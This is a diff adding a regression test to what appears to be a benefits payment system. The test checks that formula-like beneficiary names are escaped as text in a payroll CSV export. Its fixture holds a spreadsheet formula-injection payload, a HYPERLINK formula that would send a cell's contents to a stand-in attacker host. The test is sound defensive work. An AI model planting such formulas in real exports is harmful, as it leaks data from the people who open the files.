@@ -277,3 +277,19 @@ def test_a_default_beneficiary_list_must_end_with_the_estate():
     for bad in (["spouse"], [], ["estate", "cousin"], "estate"):
         with pytest.raises(ProvisionError):
             validate_provision("default_beneficiary", bad)
+
+
+def test_a_beneficiary_named_like_a_formula_reaches_the_payroll_file_as_text(client, p1, edcp):
+    """Issue 12, finding 5: a spreadsheet must not evaluate a name typed into a beneficiary designation."""
+    import csv
+    import io
+
+    from payments.models import PaymentRun
+    from payments.services.runs import payment_run_csv
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Ann")'
+    _designate(p1, edcp, ("primary", formula, 60), ("primary", "-2+3", 40))
+    _dies(p1)
+    advance(to="2026-08-17")
+    rows = list(csv.DictReader(io.StringIO(payment_run_csv(run=PaymentRun.objects.get()))))
+    assert [r["payee"] for r in rows] == ["'" + formula, "'-2+3"]
